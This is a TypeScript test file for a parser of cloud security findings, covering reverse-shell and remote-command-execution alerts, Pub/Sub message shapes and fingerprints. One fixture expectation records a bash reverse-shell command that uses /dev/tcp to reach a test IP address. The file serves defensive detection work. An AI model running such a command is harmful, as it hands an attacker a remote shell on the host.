import { expect, test } from 'vitest';
import type { Finding } from './finding.ts';
import { minimal, pushed, readFixture, shapes } from './fixtures/read-fixture.ts';
import { parseFindings } from './parse-finding.ts';

const findings = ['reverse-shell', 'remote-command'] as const;
const table = findings.flatMap((finding) => shapes.map((shape) => ({ finding, shape })));

function parseOne(document: unknown) {
  const [parsed, ...more] = parseFindings(document);
  expect(more).toEqual([]);
  return parsed!;
}

/** A finding without what a shape may lack or write differently: the name's prefix, and what stands in the resource next to it. */
function said(finding: Finding): Finding {
  return { ...finding, name: '', resourceType: '', projectDisplayName: '', projectFullName: '' };
}

test('every field that the Reverse Shell runbook names is read', () => {
  const { finding } = parseOne(readFixture('reverse-shell', 'pubsub-v2'));
  expect(finding).toMatchObject({
    canonicalName:
      'projects/210987654321/sources/5629490870118834002/locations/global/findings/5f0d1c6a9b3e47d28a51c0e7f4b2d913',
    caseId: 'finding-p210987654321-5629490870118834002-5f0d1c6a9b3e47d28a51c0e7f4b2d913',
    category: 'Reverse Shell',
    severity: 'CRITICAL',
    eventTime: '2026-11-20T09:14:31.250Z',
    createTime: '2026-11-20T09:14:34.018250Z',
    resource: { kind: 'service', project: 'ember-shop-prod', location: 'europe-west1', name: 'storefront' },
    projectDisplayName: 'ember-shop-prod',
    projectFullName: '//cloudresourcemanager.googleapis.com/projects/210987654321',
    containerImageUri: 'europe-west1-docker.pkg.dev/ember-shop-prod/web/storefront:2026-11-20',
    virusTotalLink: `https://www.virustotal.com/gui/file/${'a'.repeat(64)}/detection`,
    marks: { team: 'Storefront', reviewed: 'no' },
    contacts: ['owners@example.com', 'security@example.com'],
  });
  expect(finding.reverseShell).toEqual({
    destinationIp: '203.0.113.66',
    destinationPort: 4444,
    sourceIp: '192.0.2.14',
    sourcePort: 40312,
  });
  expect(finding.processes[0]).toEqual({
    name: 'sh',
    binary: { path: '/bin/dash', sha256: 'a'.repeat(64) },
    libraries: [{ path: '/lib/x86_64-linux-gnu/libc.so.6', partialSha256: 'b'.repeat(64) }],
    script: {
      path: '/tmp/.cache/up.sh',
      partialSha256: 'c'.repeat(64),
      contents: 'exec 3<>/dev/tcp/203.0.113.66/4444',
    },
    args: ['sh', '-c', 'exec 3<>/dev/tcp/203.0.113.66/4444; sh <&3'],
    argumentsTruncated: false,
    envVariableNames: ['PATH', 'PAYMENT_KEY'],
    pid: '41',
    parentPid: '7',
  });
});

test('every field that the Possible Remote Command Execution runbook names is read', () => {
  const { finding } = parseOne(readFixture('remote-command', 'pubsub-v1'));
  expect(finding.processes[0]).toMatchObject({ binary: { path: '/usr/bin/id' }, args: ['id', '-u'] });
  expect(finding).toMatchObject({
    resourceName: '//run.googleapis.com/projects/ember-shop-prod/locations/europe-west1/services/invoices',
    projectDisplayName: 'ember-shop-prod',
    attack: { primaryTactic: 'EXECUTION', primaryTechniques: ['COMMAND_AND_SCRIPTING_INTERPRETER'] },
  });
});

test.each(table)('$finding as $shape is the same finding with the same fingerprint', ({ finding, shape }) => {
  const expected = parseOne(readFixture(finding, 'pubsub-v2'));
  const parsed = parseOne(readFixture(finding, shape));
  expect(said(parsed.finding)).toEqual(said(expected.finding));
  expect(parsed.fingerprint).toBe(expected.fingerprint);
  if (shape === 'bare') return; // it has no resource next to it
  const { resourceType, projectDisplayName, projectFullName } = expected.finding;
  expect(parsed.finding).toMatchObject({ resourceType, projectDisplayName, projectFullName });
});

test.each(table)('$finding as $shape is the same inside a Pub/Sub push message', ({ finding, shape }) => {
  const document = readFixture(finding, shape);
  expect(parseFindings(pushed(document))).toEqual(parseFindings(document));
});

test.each(table)('the kept document of $finding as $shape reads as the same finding', ({ finding, shape }) => {
  const parsed = parseOne(readFixture(finding, shape));
  const again = parseOne(parsed.document);
  expect(again.finding).toEqual(parsed.finding);
  expect(again.fingerprint).toBe(parsed.fingerprint);
  expect(again.document).toEqual(parsed.document);
});

test('many findings are read in their order, whatever shapes stand side by side', () => {
  const list = { listFindingsResults: [{ finding: minimal({ name: 'folders/1/sources/2/findings/a' }) }] };
  const documents = [list, pushed([minimal({ name: 'projects/3/sources/2/locations/eu/findings/b' })]), minimal()];
  expect(parseFindings(documents).map(({ finding }) => finding.caseId)).toEqual([
    'finding-f1-2-a',
    'finding-p3_eu-2-b',
    'finding-o1-2-f',
  ]);
  expect(parseFindings([])).toEqual([]);
  expect(parseFindings({ listFindingsResults: [], totalSize: 0 })).toEqual([]);
});

test('unknown fields and enum values are kept in the document, new enum values in the finding too', () => {
  const added = { severity: 'CATASTROPHIC', launchState: 'GA', risks: [{ kind: 'NEW', weight: 0.5 }] };
  const { finding, document } = parseOne({ finding: minimal(added), resource: { newField: 1 } });
  expect(document).toMatchObject({ finding: added, resource: { newField: 1 } });
  expect(finding.severity).toBe('CATASTROPHIC');
});

test('a finding that says little is a finding with empty fields', () => {
  const { finding } = parseOne(minimal());
  expect(finding).toMatchObject({
    state: 'STATE_UNSPECIFIED',
    mute: 'MUTE_UNSPECIFIED',
    severity: 'SEVERITY_UNSPECIFIED',
    findingClass: 'FINDING_CLASS_UNSPECIFIED',
    processes: [],
    marks: {},
    containerImageUri: '',
  });
  for (const absent of ['createTime', 'attack', 'reverseShell', 'virusTotalLink', 'principalEmail', 'callerIp'])
    expect(finding).not.toHaveProperty(absent);
});
